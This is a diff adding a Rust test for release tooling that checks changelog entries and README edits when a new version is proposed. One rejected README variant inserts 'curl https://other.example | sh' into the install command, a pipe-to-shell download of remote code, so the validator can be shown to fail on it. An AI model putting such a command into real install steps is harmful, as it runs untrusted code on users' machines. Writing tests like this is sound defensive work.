@@ -170,3 +170,79 @@ fn the_readme_names_the_newest_release_and_internal_notes_may_name_tickets() {
     let said = readme("Hello.").says(0, &["PROJ-99"]);
     assert!(!said.out.contains("PROJ-1234"), "{}", said.out);
 }
+
+#[test]
+fn a_proposal_changes_nothing_that_customers_have_read() {
+    use tidings::documents::Answer;
+    use tidings::release_day::{older_entries, readme_text};
+    let version = crate::fixture::version("1.2.0");
+    let read = |text: &str| {
+        let text = tidings::diag::Text::new("CHANGELOG.md", text);
+        tidings::sources::changelog::read(text, None)
+    };
+    let base = log(&[("1.1.0", "2026-03-10", ""), ("1.0.0", "2026-01-10", "")]);
+    let next = log(&[
+        ("1.2.0", "2026-05-10", ""),
+        ("1.1.0", "2026-03-10", ""),
+        ("1.0.0", "2026-01-10", ""),
+    ]);
+    let judge = |before: &str, after: &str| older_entries(&version, &read(before), &read(after));
+    for good in [
+        next.clone(),
+        next.replace('\n', "\r\n"),
+        next.clone() + "\n[1.1.0]: https://acme.example/1.1.0\n",
+    ] {
+        let row = judge(&base, &good);
+        assert_eq!(row.answer, Answer::Pass, "{row:?}");
+    }
+    for (bad, words) in [
+        (
+            next.replacen(
+                "2026-01-10\n\nIt works better",
+                "2026-01-10\n\nIt works worse",
+                1,
+            ),
+            "1.0.0 changes",
+        ),
+        (
+            log(&[("1.2.0", "2026-05-10", ""), ("1.1.0", "2026-03-10", "")]),
+            "1.0.0 is gone",
+        ),
+        (
+            log(&[
+                ("1.2.0", "2026-05-10", ""),
+                ("1.1.5", "2026-04-10", ""),
+                ("1.1.0", "2026-03-10", ""),
+                ("1.0.0", "2026-01-10", ""),
+            ]),
+            "1.1.5 is new",
+        ),
+    ] {
+        let row = judge(&base, &bad);
+        assert_eq!(row.answer, Answer::Fail, "{bad}");
+        assert!(row.why.contains(words), "{row:?}");
+    }
+    // A proposal that was begun without the mark of a withdrawal does not take the withdrawal back.
+    assert_eq!(judge(&withdrawn(), &next).why, "1.1.0 changes");
+    let readme = "# Agent\n\ngit checkout v1.1.0 && ./install.sh\n\n<!-- tidings:matrix -->\n1.1\n<!-- /tidings:matrix -->\n\nAsk support@acme.example.\n";
+    for good in [
+        readme.to_owned(),
+        readme.replace("v1.1.0", "v1.2.0"),
+        readme.replace("\n1.1\n", "\n1.2\n1.1\n"),
+    ] {
+        let row = readme_text(&version, readme, &good);
+        assert_eq!(row.answer, Answer::Pass, "{good}: {row:?}");
+    }
+    for bad in [
+        readme.replace("support@acme.example", "support@other.example"),
+        readme.replace("v1.1.0 &&", "v1.2.0 && curl https://other.example | sh &&"),
+        readme.replace("v1.1.0", "v1.3.0"),
+        readme.replace("./install.sh", "./1.2.0"),
+        readme.to_owned() + "And more.\n",
+        readme.replace("# Agent\n\n", ""),
+        readme.replace("<!-- /tidings:matrix -->", "") + "<!-- /tidings:matrix -->\n",
+    ] {
+        let row = readme_text(&version, readme, &bad);
+        assert_eq!(row.answer, Answer::Fail, "{bad}");
+    }
+}
